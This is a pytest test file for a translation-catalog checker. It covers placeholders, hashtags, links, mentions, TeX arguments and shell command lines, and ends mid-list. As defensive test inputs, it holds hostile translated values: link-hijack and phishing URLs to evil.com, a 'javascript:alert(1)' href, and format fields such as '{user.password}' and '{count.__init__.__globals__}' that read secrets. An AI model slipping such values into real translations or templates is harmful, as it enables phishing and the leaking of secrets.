"""Each check on its own: what fires, at which severity, with which message, and what must not.

The labelled corpus (test_checks_corpus.py) proves recall and precision on realistic catalogs;
these tests pin the behaviour of each check and of the pieces it is built from (links and
mentions found as the platforms find them), and, with the real language detector, each class
of false alarm and missed defect seen on real catalogs (issue 10).
"""

from __future__ import annotations

from collections.abc import Collection, Mapping, Sequence
from pathlib import Path

import pytest
from babel.messages.catalog import Catalog
from hypothesis import given, settings
from hypothesis import strategies as st

from outreach.campaign import Campaign, parse_campaign
from outreach.checks import CATALOG_CHECKS, ENTRY_CHECKS, check_catalog
from outreach.detect import LanguageJudge
from outreach.plurals import PluralForms, parse_plural_forms
from outreach.pofile import set_plural_forms
from outreach.tokens import (
    find_emoji,
    find_hashtags,
    find_mentions,
    find_urls,
    strip_tokens,
    x_links,
)

TOML = """
[campaign]
name = "Test"
source_locale = "en"
locales = ["en", "es", "fr", "ar", "ja", "ru", "th", "en-GB", "pt-BR"]
hashtags = ["#LoveAlwaysWins"]
url = "https://example.org/love"

[campaign.localized_hashtags]
es = ["#ElAmorSiempreGana"]
fr = ["#LAmourGagneToujours"]
"""
CAMPAIGN: Campaign = parse_campaign(TOML, root=".")

Found = list[tuple[str, str, str]]


class FakeDetector:
    """Answers langdetect-style candidates for every sample it is asked about."""

    def __init__(self, answer: tuple[tuple[str, float], ...]) -> None:
        self.answer = answer
        self.asked: list[str] = []

    def __call__(
        self, samples: Collection[str], locale: str
    ) -> Mapping[str, tuple[tuple[str, float], ...]]:
        self.asked.extend(samples)
        return {sample: self.answer for sample in samples}


def check(
    source: str | tuple[str, str],
    translation: str | Sequence[str],
    *,
    locale: str = "es",
    context: str | None = None,
    flags: Sequence[str] = (),
    fuzzy: bool = False,
    detector: FakeDetector | LanguageJudge | None = None,
    plural_forms: str | None = None,
    campaign: Campaign = CAMPAIGN,
) -> Found:
    """Findings for one entry, as ``(check, severity, message)``."""
    catalog = Catalog(locale=locale, fuzzy=False)
    if plural_forms:
        set_plural_forms(catalog, parse_plural_forms(plural_forms))
    catalog.add(
        source,
        translation if isinstance(translation, str) else list(translation),
        flags=list(flags) + (["fuzzy"] if fuzzy else []),
        context=context,
    )
    findings = check_catalog(
        catalog, file="x.po", locale=locale, campaign=campaign, detector=detector
    )
    return [(f.check, f.severity, f.message) for f in findings]


def checks(found: Found) -> set[str]:
    return {name for name, _, _ in found}


# -- placeholders and plurals --------------------------------------------------------------
@pytest.mark.parametrize(
    ("source", "translation", "message"),
    [
        ("Sign: %(url)s", "Firma", "placeholder %(url)s is missing from the translation"),
        ("Sign", "Firma %(url)s", "placeholder %(url)s is not in the source"),
        ("Sign: %(url)s", "Firma: %(enlace)s", "placeholder %(url)s was renamed to %(enlace)s"),
        ("Sign %(url)s", "Firma %(url),", "invalid placeholder '%(url),'"),
        ("Up %d%%", "Sube 50%", "invalid placeholder '%'"),
        ("Hi {name}", "Hola {nombre}", "placeholder {name} was renamed to {nombre}"),
    ],
)
def test_placeholders(source: str, translation: str, message: str) -> None:
    found = [f for f in check(source, translation) if f[0] == "placeholders"]
    assert found and found[0][1] == "error"
    assert any(f[2].startswith(message) for f in found), found


def test_placeholders_are_checked_in_every_plural_form() -> None:
    found = check(
        ("%(num)d friend", "%(num)d friends"),
        ["%(num)d друг", "друга", "%(num)d друзей"],
        locale="ru",
    )
    assert (
        "placeholders",
        "error",
        "placeholder %(num)d is missing from the translation (plural form 1)",
    ) in found


PST = 'Built with the <a href="%(PST_url)s">PyData Sphinx Theme</a> %(theme_version)s.'
PST_DOCS = "https://pydata-sphinx-theme.readthedocs.io/en/stable/index.html"


@pytest.mark.parametrize(
    ("locale", "translation"),
    [
        (
            "ja",
            f'<a href="{PST_DOCS}">PyData Sphinx Theme</a> %(theme_version)s で構築されています。',
        ),
        ("cs", f'Vytvořeno pomocí <a href="{PST_DOCS}">PyData Sphinx Theme</a> %(theme_version)s.'),
        ("ru", f'Собрано с темой <a href=\\"{PST_DOCS}\\">PyData Sphinx</a> %(theme_version)s.'),
    ],
)
def test_a_link_placeholder_written_as_a_literal_link_is_the_urls_checks_error(
    locale: str, translation: str
) -> None:
    """pydata-sphinx-theme's footer passes PST_url as a constant (its docs): the translators
    wrote that link in the href. The link to a host the source does not link to is the urls
    check's error; the placeholder left out for it is a warning (one cause, one finding)."""
    found = check(PST, translation, locale=locale, flags=["python-format"])
    placeholder = [f for f in found if f[0] == "placeholders"]
    assert placeholder and all(f[1] == "warning" for f in placeholder), found
    assert "written as a literal link" in placeholder[0][2]
    assert any(f[:2] == ("urls", "error") for f in found), found


@pytest.mark.parametrize(
    "translation",
    [
        # the campaign's own site (the urls check accepts it): a per-reader link may be lost
        '<a href="https://example.org/love">Darse de baja</a>',
        # a host the source links to elsewhere: no urls error, so the placeholder's stands
        '<a href="https://docs.example.net/">Darse de baja</a> (docs.example.net)',
        # no literal link in its place: a placeholder simply left out
        "<a>Darse de baja</a> https://evil.example.com/",
        # a javascript: link is no web link
        '<a href="javascript:alert(1)">Darse de baja</a>',
    ],
)
def test_a_link_placeholder_stays_an_error_unless_the_urls_check_reports_the_link(
    translation: str,
) -> None:
    source = '<a href="%(unsubscribe)s">Unsubscribe</a> (docs.example.net)'
    found = check(source, translation, flags=["python-format"])
    lost = [f for f in found if f[0] == "placeholders" and "%(unsubscribe)s" in f[2]]
    assert [f[1] for f in lost] == ["error"], found


def test_a_link_placeholder_yields_only_to_an_error_the_organizer_keeps(tmp_path: Path) -> None:
    """The placeholder's error steps down only for the urls check's error on the same form
    (one cause, one finding). A translator who adds an unrelated link there (a local wiki)
    gets that error; an organizer who excepts it in campaign.toml (the wiki is fine) has
    excepted that link, not the per-reader unsubscribe link swapped for the campaign's own
    page in the same form: with the urls error gone, the placeholder's is an error again,
    and ``outreach compile`` leaves the entry out."""
    from outreach.checks.runner import as_po_file
    from outreach.translations import compile_checked

    source = (
        '<a href="%(unsubscribe)s">Unsubscribe</a> or read the '
        '<a href="https://wiki.archlinux.org/">guide</a>.'
    )
    translation = (
        '<a href="https://example.org/love">Darse de baja</a> o lee la '
        '<a href="https://wiki.archlinux.es/">guía</a>.'
    )
    found = check(source, translation, flags=["python-format"])
    assert ("urls", "error") in [f[:2] for f in found], found
    excepted = parse_campaign(
        TOML
        + "\n[[checks.ignore]]\n"
        + 'check = "urls"\nlocale = "es"\n'
        + f"msgid = '{source}'\n"
        + 'reason = "the Spanish guide lives on wiki.archlinux.es"\n',
        root=tmp_path,
    )
    found = check(source, translation, flags=["python-format"], campaign=excepted)
    lost = [f for f in found if f[0] == "placeholders" and "%(unsubscribe)s" in f[2]]
    assert [f[1] for f in lost] == ["error"], found
    catalog = Catalog(locale="es", fuzzy=False)
    catalog.add(source, translation, flags=["python-format"])
    po = as_po_file(catalog, file="es.po", locale="es")
    compiled = compile_checked(po, campaign=excepted, locale="es", file="es.po", sources=None)
    assert compiled.count == 0 and compiled.left_out == 1, compiled.findings


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        ("Run ``%(cmd)s`` now.", "Lance ``%(commande)s`` maintenant."),
        ("Run `{cmd}` now.", "Lance `{commande}` maintenant."),
        ("Run <code>{cmd}</code> now.", "Lance <code>{commande}</code> maintenant."),
        ("Run ``{cmd}`` now.", "Lance maintenant."),
    ],
)
def test_code_that_is_one_placeholder_is_the_placeholders_checks(
    source: str, translation: str
) -> None:
    """One cause, one finding: a placeholder in backticks renamed or lost is the
    placeholders check's error; the code check's warning about the same span yields to it
    (:attr:`~outreach.checks.registry.Problem.yields_to`)."""
    found = check(source, translation, locale="fr")
    assert [f[:2] for f in found] == [("placeholders", "error")], found
    # code that is more than the placeholder is still the code check's
    found = check("Run ``make {target}`` now.", "Lance ``faire {target}`` maintenant.", locale="fr")
    assert [f[:2] for f in found] == [("code", "warning")], found


def test_a_form_for_a_single_number_may_leave_out_the_count() -> None:
    forms = ["لا أحد", "شخص واحد", "شخصان", "%(num)s أشخاص", "%(num)s شخصًا", "%(num)s شخص"]
    assert check(("One person", "%(num)s people"), forms, locale="ar") == []
    forms[3] = "أشخاص"
    assert checks(check(("One person", "%(num)s people"), forms, locale="ar")) == {"placeholders"}


def test_plurals_empty_form_among_filled() -> None:
    found = check(("One", "%(num)s"), ["Uno", ""])
    assert [f[:2] for f in found] == [("plurals", "error")]


# -- header ---------------------------------------------------------------------------------
def test_header_problems_are_warnings() -> None:
    catalog = Catalog(locale="ru", fuzzy=True, charset="iso-8859-1")
    set_plural_forms(catalog, PluralForms(2, "(n != 1)"))
    catalog.add(("One friend", "%(num)s friends"), ("Один друг", "%(num)s друга"))
    found = [(f.check, f.severity, f.message) for f in check_catalog(catalog, file="ru.po")]
    headers = [m for check, severity, m in found if (check, severity) == ("header", "warning")]
    assert any("fuzzy" in m and "pybabel compile skips" in m for m in headers)
    assert any("charset is iso-8859-1" in m for m in headers)
    # a working formula no tool writes for Russian: a warning that says what it does
    (unusual,) = [m for m in headers if "Plural-Forms" in m]
    assert "is not a formula translation tools use for ru" in unusual
    assert "form 0 for 1; form 1 for 0, 2–1000, …" in unusual
    assert not [f for f in found if f[1] == "error"]


def test_header_language_other_than_the_catalog_is_a_warning() -> None:
    catalog = Catalog(locale="pt", fuzzy=False)
    found = [(f.severity, f.message) for f in check_catalog(catalog, file="es.po", locale="es")]
    assert found == [("warning", "the header says Language: pt, but this is the es catalog")]


# -- untranslated, fuzzy, same-as-source -----------------------------------------------------
def test_untranslated_and_fuzzy_are_warnings_but_not_in_the_source_catalog() -> None:
    assert check("Watch the film", "") == [
        (
            "untranslated",
            "warning",
            "not translated: renders in the source language (en) until it is",
        )
    ]
    assert [f[:2] for f in check("Watch", "Mira", fuzzy=True)] == [("fuzzy", "warning")]
    assert check("Watch the film", "", locale="en") == []


@pytest.mark.parametrize("text", ["Video", "OK", "Instagram", "Love Always Wins", "Sochi 2014"])
def test_same_as_source_ignores_short_words_and_names(text: str) -> None:
    assert check(text, text) == []


def test_same_as_source_fires_on_a_long_copy_only_in_another_language() -> None:
    text = "Then share it with your family and friends."
    assert check(text, text) == [
        (
            "same-as-source",
            "warning",
            "the translation is the source text unchanged; "
            "translate it, or flag it ignore-same-as-source if it stays as written",
        )
    ]
    assert check(text, text, locale="en_GB") == []
    assert check(text, text, flags=["ignore-same-as-source"]) == []


# -- wrong-language --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("locale", "source", "translation", "script"),
    [
        ("ja", "Watch the film", "Watch now", "Latin"),
        ("ar", "Sign", "Sign it", "Latin"),
        ("ru", "Share the film", "Share it", "Latin"),
        ("es", "Share the film", "Поделитесь фильмом", "Cyrillic"),
    ],
)
def test_wrong_script_is_reported_even_for_short_strings_as_a_warning(
    locale: str, source: str, translation: str, script: str
) -> None:
    found = check(source, translation, locale=locale)
    assert [f[:2] for f in found] == [("wrong-language", "warning")]
    assert f"written in {script} script" in found[0][2]


@pytest.mark.parametrize(
    ("locale", "source", "translation"),
    [
        ("ja", "Watch it on YouTube", "YouTubeで見てください"),  # a brand in Latin letters
        ("ja", "Ask the IOC", "IOCに聞いてください"),
        ("ar", "Use #LoveAlwaysWins at %(url)s", "استخدم #LoveAlwaysWins على %(url)s"),
        ("ja", "OK", "OK"),
        ("ru", "Sochi", "Сочи"),
    ],
)
def test_brands_tokens_and_copies_do_not_make_a_wrong_script(
    locale: str, source: str, translation: str
) -> None:
    assert "wrong-language" not in checks(check(source, translation, locale=locale))


def test_langdetect_is_consulted_only_for_long_enough_text() -> None:
    detector = FakeDetector((("fr", 0.99),))
    long = "La Russie a fait un crime de parler ouvertement des personnes gays avant les Jeux."
    found = check(
        "Russia made it a crime to speak openly before the Games.", long, detector=detector
    )
    assert found == [
        (
            "wrong-language",
            "warning",
            "the translation looks like French (fr, 99% by langdetect), not Spanish",
        )
    ]
    detector = FakeDetector((("it", 0.99),))
    assert check("Read our full report.", "Lee nuestro informe.", detector=detector) == []
    assert detector.asked == []  # three words: too short to judge


def test_langdetect_must_rule_the_catalog_language_out_clearly() -> None:
    text = "Lee nuestro informe completo antes de compartirlo con tus amigos."
    for answer in ((("it", 0.71), ("es", 0.28)), (("it", 0.6), ("pt", 0.3))):
        assert (
            check("Read our report before you share it.", text, detector=FakeDetector(answer)) == []
        )
    # languages langdetect confuses with each other do not count as wrong
    found = check(
        "Share it with your friends before the deadline.",
        "Del den med dine venner før fristen udløber i aften.",
        locale="nb",
        detector=FakeDetector((("da", 0.99),)),
    )
    assert "wrong-language" not in checks(found)


@pytest.mark.parametrize(
    ("locale", "text"),
    [
        ("es", "Lee nuestro informe completo."),
        ("es", "Firma ahora"),
        ("es", "Hola"),
        ("pt_BR", "Veja o filme"),
        ("fr", "Merci !"),
        ("ja", "署名する"),
    ],
)
def test_short_strings_never_raise_a_language_alarm_with_the_real_detector(
    locale: str, text: str
) -> None:
    from outreach.detect import LanguageJudge

    found = check("Some source text here", text, locale=locale, detector=LanguageJudge())
    assert "wrong-language" not in checks(found)


# -- hashtags, links, mentions, emoji ------------------------------------------------------
SOURCE_TAG = "Post with #LoveAlwaysWins today"


@pytest.mark.parametrize(
    ("locale", "translation", "message"),
    [
        (
            "es",
            "Publica con #Love AlwaysWins hoy",
            "hashtag #LoveAlwaysWins is broken by a space in “#Love AlwaysWins”: platforms would "
            "link only “#Love”",
        ),
        (
            "fr",
            "Publiez avec #L’AmourGagneToujours",
            "hashtag #LAmourGagneToujours is broken by an apostrophe in “#L’AmourGagneToujours”: "
            "platforms would link only “#L”",
        ),
        (
            "es",
            "Publica con #Love-Always-Wins hoy",
            "hashtag #LoveAlwaysWins is broken by a hyphen in “#Love-Always-Wins”: platforms "
            "would link only “#Love”",
        ),
        (
            "es",
            "Publica con #LoveAlwaysWin hoy",
            "hashtag #LoveAlwaysWins is misspelled as #LoveAlwaysWin",
        ),
        (
            "es",
            "Publica con #lovealwayswins hoy",
            "hashtag #LoveAlwaysWins was changed to #lovealwayswins; keep it exactly as written",
        ),
        (
            "es",
            "Publica con LoveAlwaysWins hoy",
            "hashtag #LoveAlwaysWins lost its “#”: it would not be linked",
        ),
        (
            "ja",
            "今日 #ElAmorSiempreGana で投稿",
            "hashtag #LoveAlwaysWins was replaced by #ElAmorSiempreGana, the variant for es; ja "
            "accepts #LoveAlwaysWins",
        ),
        (
            "ja",
            "今日、#LoveAlwaysWinsで投稿しよう",
            "hashtag #LoveAlwaysWins runs into the text after it: platforms would link "
            "#LoveAlwaysWinsで投稿しよう; put a space after the tag",
        ),
        (
            "ja",
            "今日は#LoveAlwaysWins で投稿しよう",
            "hashtag #LoveAlwaysWins is glued to the text before it (“は#LoveAlwaysWins”): "
            "platforms would not link it; put a space before the tag",
        ),
        ("es", "Publica hoy", "hashtag #LoveAlwaysWins is missing from the translation"),
    ],
)
def test_hashtags(locale: str, translation: str, message: str) -> None:
    found = [f for f in check(SOURCE_TAG, translation, locale=locale) if f[0] == "hashtags"]
    assert found == [("hashtags", "error", message)]


@pytest.mark.parametrize(
    ("locale", "translation"),
    [
        ("es", "Publica con #LoveAlwaysWins hoy"),
        ("es", "Publica con #ElAmorSiempreGana hoy"),
        ("fr", "Publiez avec « #LAmourGagneToujours » aujourd’hui"),
        ("ja", "今日、＃LoveAlwaysWins で投稿しよう"),
    ],
)
def test_hashtags_kept_or_accepted_variant(locale: str, translation: str) -> None:
    assert "hashtags" not in checks(check(SOURCE_TAG, translation, locale=locale))


@pytest.mark.parametrize(
    ("translation", "message"),
    [
        (
            "Lee https://evil.com/r",
            "link https://evil.com/r points to evil.com, which the source does not link "
            "to: a possible link hijack (the source links https://example.org/love/report)",
        ),
        (
            "Lee https://example.org/amor",
            "link https://example.org/love/report was changed to https://example.org/amor",
        ),
        ("Lee el informe", "link https://example.org/love/report is missing from the translation"),
        (
            "Lee https://example.org/love/report o bit.ly/x",
            "link bit.ly/x points to bit.ly, which the source does not link to: a possible link "
            "hijack",
        ),
    ],
)
def test_urls(translation: str, message: str) -> None:
    found = [
        f for f in check("Read https://example.org/love/report.", translation) if f[0] == "urls"
    ]
    assert found == [("urls", "error", message)]


@pytest.mark.parametrize(
    ("source", "translation", "severity", "says"),
    [
        # the same page written another way: a judgement
        ("See http://mysite.org/docs", "Voir https://mysite.org/docs", "warning", "https for http"),
        ("See https://mysite.org/docs", "Voir https://www.mysite.org/docs", "warning", "www."),
        ("See https://mysite.org/docs", "Voir https://mysite.org/docs/", "warning", "slash"),
        # https made http: anyone on the way can read and change the page
        ("See https://mysite.org/docs", "Voir http://mysite.org/docs", "error", "changed to"),
        # the site's host for the translator's language, the same page
        (
            "See https://en.wikipedia.org/wiki/Sochi",
            "Voir https://fr.wikipedia.org/wiki/Sochi",
            "warning",
            "host for the translation's language (fr)",
        ),
        (
            "See https://support.mysite.org/kb",
            "Voir https://fr.support.mysite.org/kb",
            "warning",
            "host for the translation's language",
        ),
        # ... another page there: on a shared host, someone else's
        (
            "Give at https://en.gofund.test-site.org/f/ours",
            "Donnez sur https://fr.gofund.test-site.org/f/theirs",
            "error",
            "changed to",
        ),
        # another language's host, or another label: another site
        (
            "See https://en.wikipedia.org/wiki/Sochi",
            "Voir https://de.wikipedia.org/wiki/Sochi",
            "error",
            "hijack",
        ),
        (
            "See https://support.mysite.org/kb",
            "Voir https://evil.support.mysite.org/kb",
            "error",
            "hijack",
        ),
        # the same page with its section anchor in the language (a wiki's own heading)
        (
            'How? <a href="https://en.wikipedia.org/wiki/Pottery#Glazing">Read</a>',
            'Comment ? <a href="https://fr.wikipedia.org/wiki/Pottery#Émaillage">Lire</a>',
            "warning",
            "host for the translation's language (fr)",
        ),
        (
            "See https://mysite.org/faq#Costs",
            "Voir https://mysite.org/faq#Frais",
            "warning",
            "anchor",
        ),
        # attacks: another page there, a one-page app's route, another host with an anchor
        (
            "See https://en.wikipedia.org/wiki/Pottery#Glazing",
            "Voir https://fr.wikipedia.org/wiki/Utilisateur:Evil#Glazing",
            "error",
            "changed to",
        ),
        (
            "See https://app.mysite.org/#/team/ours",
            "Voir https://app.mysite.org/#/team/theirs",
            "error",
            "changed to",
        ),
        (
            "See https://app.mysite.org/#!ours",
            "Voir https://app.mysite.org/#!theirs",
            "error",
            "changed to",
        ),
        # a route percent-encoded, a handle's route, an id: another page of the app
        (
            "See https://mysite.org/app#home",
            "Voir https://mysite.org/app#%2Fteam%2Fevil",
            "error",
            "changed to",
        ),
        (
            "See https://mysite.org/app#home",
            "Voir https://mysite.org/app#%40evil",
            "error",
            "changed to",
        ),
        (
            "See https://web.telegram.org/a/#777000",
            "Voir https://web.telegram.org/a/#666666",
            "error",
            "changed to",
        ),
        # MediaWiki's escaped heading (.C3.A9 is é): no number, the same page
        (
            "See https://en.wikipedia.org/wiki/HTTP#Request_methods",
            "Voir https://fr.wikipedia.org/wiki/HTTP#M.C3.A9thodes_de_requ.C3.AAte",
            "warning",
            "host for the translation's language (fr)",
        ),
        # a heading in the language keeps its numbers: the same page
        (
            "See https://mysite.org/faq#Step_2",
            "Voir https://mysite.org/faq#Schritt_2",
            "warning",
            "anchor",
        ),
        (
            "See https://mysite.org/faq#Costs",
            "Voir https://evil-site.org/faq#Frais",
            "error",
            "hijack",
        ),
        # a page in the reader's language on another host than the source's (the language's
        # Wikipedia, a third party's translation of the docs): harmless as written, but
        # outreach cannot tell it from a hijack, and a third party's domain changes hands
        (
            'Use <a href="https://markup-author.org/syntax">Markup</a> for formatting.',
            'Utilisez <a href="https://fr.wikipedia.org/wiki/Markup">Markup</a> pour le format.',
            "error",
            "hijack",
        ),
        (
            'Use <a href="https://markup-author.org/syntax">Markup</a> for formatting.',
            'Utilisez <a href="https://markup-syntaxe.fr">Markup</a> pour le format.',
            "error",
            "hijack",
        ),
        # a domain in prose left out: the wording may name the site another way
        ("Visit mysite.org for more", "Visitez notre site", "warning", "the source names"),
    ],
)
def test_urls_same_page_or_site_variants(
    source: str, translation: str, severity: str, says: str
) -> None:
    found = [f for f in check(source, translation, locale="fr") if f[0] == "urls"]
    assert [f[1] for f in found] == [severity], found
    assert says in found[0][2]


_OLD_PAGE = "This page is old. %(link_start)sSee the new one%(link_end)s."


def test_urls_host_made_by_a_placeholder_read_as_its_name_is_a_warning() -> None:
    # no space after the full stop: read with the placeholder as its name, "vieille.link_start"
    translation = "Cette page est vieille.%(link_start)sVoir la nouvelle%(link_end)s."
    found = [f for f in check(_OLD_PAGE, translation, locale="fr") if f[0] == "urls"]
    assert [f[1] for f in found] == ["warning"], found
    assert "%(link_start)s" in found[0][2]


@pytest.mark.parametrize(
    "translation",
    [
        # a host written out before the placeholder
        "Cette page est vieille. Voir evil.link%(link_start)sla nouvelle%(link_end)s.",
        # the placeholder inside a host whose end is written out
        "Cette page est vieille.%(link_start)s.evil.com voir%(link_end)s.",
        "Cette page est vieille. %(link_start)sVoir%(link_end)s.evil.com",
        # the placeholder empty (a link's tag in plain text) joins a host: evil.com/x
        "Cette page est evil.%(link_start)scom/x Voir%(link_end)s.",
    ],
)
def test_urls_host_made_by_a_placeholder_attacks_stay_errors(translation: str) -> None:
    found = [f for f in check(_OLD_PAGE, translation, locale="fr") if f[0] == "urls"]
    assert "error" in [f[1] for f in found], found


_DOI_HELP = "Cite the poster by its DOI, for example 10.5555/poster.art"


def test_urls_doi_suffix_written_apart_is_a_warning() -> None:
    translation = "Citez l’affiche par son DOI, par exemple 10.5555 / poster.art"
    found = [f for f in check(_DOI_HELP, translation, locale="fr") if f[0] == "urls"]
    assert [f[1] for f in found] == ["warning"], found
    assert "10.5555/poster.art" in found[0][2]


@pytest.mark.parametrize(
    "translation",
    [
        # another suffix: a host the source does not name
        "Citez l’affiche par son DOI, par exemple 10.5555 / evil.art",
        # the suffix alone, without the DOI's prefix: a bare domain
        "Citez l’affiche sur poster.art",
        # the suffix as a link's host
        "Citez l’affiche : 10.5555 https://poster.art/login",
    ],
)
def test_urls_doi_suffix_attacks_stay_errors(translation: str) -> None:
    found = [f for f in check(_DOI_HELP, translation, locale="fr") if f[0] == "urls"]
    assert "error" in [f[1] for f in found], found


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        (_DOI_HELP, "Citez l’affiche par son DOI, 10.5555 / poster.art, https://poster.art/login"),
        ("Write to jdoe@example.com", "Écrivez à juan@evil.com ou https://evil.com/phish"),
        ("Restore backup.zip first", "Restaurez sauvegarde.zip puis https://sauvegarde.zip/x"),
    ],
)
def test_urls_a_warning_excuses_one_link_not_its_host(source: str, translation: str) -> None:
    """A DOI's suffix, a localised example or a file name is excused as written; another
    link on its host (a login page beside it) is still a hijack."""
    found = [f for f in check(source, translation, locale="fr") if f[0] == "urls"]
    assert "error" in [f[1] for f in found], found


def test_urls_kept_with_local_punctuation_are_fine() -> None:
    source = "Read it at https://example.org/love. Write to team@example.org!"
    translation = "Léelo en https://example.org/love… ¡Escríbenos a team@example.org!"
    assert check(source, translation) == []


def test_mentions() -> None:
    source = "Ask @iocmedia and write to love@example.org"
    assert [f[2] for f in check(source, "Pregunta a @ioc_media y escribe a love@example.org")] == [
        "mention @iocmedia was changed to @ioc_media"
    ]
    assert [f[2] for f in check(source, "Pregunta y escribe a love@example.org")] == [
        "mention @iocmedia is missing from the translation"
    ]
    extra = check(source, "Pregunta a @iocmedia y a @otro, escribe a love@example.org")
    assert [f[2] for f in extra] == [
        "mention @otro is not in the source: it would notify that account"
    ]


def test_placeholders_tex_argument_added_is_a_warning() -> None:
    found = check(r"\title{}", "\\title{}\n\\usepackage[french]{fontenc}", locale="fr")
    assert [(f[0], f[1]) for f in found] == [("placeholders", "warning")], found
    assert "TeX argument" in found[0][2]


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        # Pyromaths' LaTeX fragments (issue 19's eighth held-out half): the arguments of TeX
        # commands are the source's words, and translated they are the translation's
        (
            r"\item Sur $[%s~;~%s]$ , le \textbf{maximum} de $f$ est $y = %s$.",
            r"\item En $[%s~;~%s]$ , el \textbf{máximo} de $f$ es $y = %s$.",
        ),
        (r"\fbox{Donc le \textsc{pgcd} de %s est %s}.", r"\fbox{El \textsc{MCD} de %s es %s}."),
        (r"\textbf{Phrase} & \textbf{Figure} \\", r"\textbf{Frase} & \textbf{Figura} \\"),
        # a second argument after words no brace field can name, with the flag Babel sets
        (
            "\\currentpdfbookmark{Le corrigé des exercices}{Corrigé}\n",
            "\\currentpdfbookmark{La solució dels exercicis}{Solucionari}\n",
        ),
        # PSTricks' coordinates between the command and its argument
        (
            r"\rput(0,-1){Effectif} \rput{90}(1,1){Durée}",
            r"\rput(0,-1){Total} \rput{90}(1,1){Duración}",
        ),
    ],
)
def test_a_tex_argument_translated_is_no_placeholder(source: str, translation: str) -> None:
    for flags in ((), ("python-brace-format",)):  # Babel flags any "{…}" so
        found = check(source, translation, locale="es", flags=flags)
        assert [f for f in found if f[0] == "placeholders"] == [], (flags, found)


def test_a_tex_argument_left_out_is_a_warning_and_a_field_beside_it_an_error() -> None:
    found = check(r"le \textbf{maximum} de $f$", "el máximo de $f$", locale="es")
    assert [f[:2] for f in found if f[0] == "placeholders"] == [("placeholders", "warning")]
    # a brace after no TeX command means the text is formatted: its fields are placeholders
    found = check(r"\textbf{Phrase} {name}", r"\textbf{Frase} {nom}", locale="es")
    assert ("placeholders", "error") in [f[:2] for f in found], found


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        # str.format's walk to a value: an attribute, an item, a conversion, never TeX words
        (r"\textbf{Total} \emph{count}", r"\textbf{Total} \emph{user.password}"),
        (r"\textbf{Total} \emph{count}", r"\textbf{Total} \emph{count.__init__.__globals__}"),
        (r"\textbf{Total} \emph{count}", r"\textbf{Total} \emph{count[secret]}"),
        (r"\textbf{Total} \emph{count}", r"\textbf{Total} \emph{count!r}"),
        (r"\rput(0,-1){Effectif}", r"\rput(0,-1){user.password}"),
        (r"\textbf{Le total}", r"\textbf{Total}{user.password}"),
    ],
)
def test_a_field_reading_a_value_is_no_tex_argument(source: str, translation: str) -> None:
    """A brace field that reads an argument's attribute or item, or converts it
    (``{user.password}``, ``{count[secret]}``, ``{count!r}``), is what str.format does with a
    value, never a TeX command's words translated: an error, even after a TeX command."""
    for flags in ((), ("python-brace-format",)):
        found = check(source, translation, locale="es", flags=flags)
        assert ("placeholders", "error") in [f[:2] for f in found], (flags, found)


def test_a_tex_argument_more_than_the_source_gives_its_command_is_a_warning() -> None:
    """``\textbf{x}{y}`` gives ``\textbf`` two arguments where the source gives it one: the
    second is no translation of an argument of the source's (one for one), but a brace the
    translation adds, a warning, as before earlier arguments were read."""
    found = check(r"\textbf{Le total} des notes", r"\textbf{El total}{nombre} de notas")
    assert [f[:2] for f in found if f[0] == "placeholders"] == [("placeholders", "warning")]
    assert "{nombre}" in found[0][2], found


@pytest.mark.parametrize(
    "text",
    [
        "\\ab{x}" * 10_000,
        "\\ab" + "{x}" * 20_000,
        "\\ab{x} " * 8_500,
        "\\ab(x)" * 10_000 + "{x}",
        "".join(f"\\ab{{a{i}}}" for i in range(6_000)),
    ],
)
def test_tex_arguments_of_a_long_line_are_found_in_one_pass(text: str) -> None:
    """Each brace field is looked up among the TeX commands' arguments found in one pass,
    not by a search from the text's start (60,000 characters of ``\\ab{x}`` took seconds:
    ``benchmarks/bench_pathological.py`` times it, "TeX arguments"); the answer is the same."""
    from outreach.checks.placeholders import _tex_arguments, _tex_kept

    found = _tex_arguments(text)
    assert found == ({f"{{a{i}}}" for i in range(6_000)} if "{a0}" in text else {"{x}"})
    for field in sorted(found)[:3_000]:  # each field of a text, as the check asks
        assert _tex_kept(field, text, text)


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        ("$ est $", "\xa0es : \xa0"),
        ("$ racines.", "$ raíces"),
        ("$ élève(s) pour ", "$ alumno(s) para"),
        ("$ représentée ci-contre par la droite ($d_", "$ representada por la recta ($d_"),
    ],
)
def test_a_tex_math_delimiter_is_no_shell_prompt(source: str, translation: str) -> None:
    """A fragment a program joins to the math it writes opens or closes with ``$``: prose
    follows, or a ``$`` standing alone closes the math. No command line to keep."""
    assert [f for f in check(source, translation, locale="es") if f[0] == "code"] == []


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        ("$ git commit -m fix", "$ git kommit -m fix"),
        ("  $ ./configure --prefix=/usr", "  $ ./configurer --prefix=/usr"),
        ("$ echo $HOME", "$ echo $MAISON"),
        ("Run:\n$ pip install x\n", "Lancez :\n$ pip installer x\n"),
    ],
)
def test_a_command_line_is_still_one(source: str, translation: str) -> None:
    found = check(source, translation, locale="fr")
    assert ("code", "error") in [f[:2] for f in found], found


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        # a shell operator right after the program's name
        ("$ ls|wc -l", "$ ls|wc -w"),
        ("$ make&&sudo make install", "$ make&&sudo make instalar"),
        ("$ cd build;make", "$ cd construire;make"),
        # the POSIX dot command, which reads a file into the shell
        ("$ . venv/bin/activate", "$ . venv/bin/activer"),
        ("$ . ~/.profile", "$ . ~/.profil"),
        # a program named by a variable
        ("$ $EDITOR ~/.bashrc", "$ $EDITEUR ~/.bashrc"),
        ("$ ${EDITOR:-vi} config.toml", "$ ${EDITEUR:-vi} config.toml"),
    ],
)
def test_a_command_line_after_any_program_name_is_one(source: str, translation: str) -> None:
    """A program's name runs into a shell operator (``ls|wc``), is the dot command
    (``. venv/bin/activate``) or a variable (``$EDITOR``): each line is a command to keep,
    which TeX's ``$ racines.`` or ``$ est $`` never is."""
    found = check(source, translation, locale="fr")
    assert ("code", "error") in [f[:2] for f in found], found


@pytest.mark.parametrize(
    ("source", "translation", "flags"),
    [
        # a brace after no TeX command: a field str.format would fill
        (r"\title{}", "\\title{} {user}", ()),
        # the source's braces are not all TeX arguments: the text is formatted
        (r"Hello {name}, see \cite{ref}", "Bonjour \\emph{nom}, voir \\cite{ref}", ()),
        # a TeX command that reads a file, links or redefines: injected markup
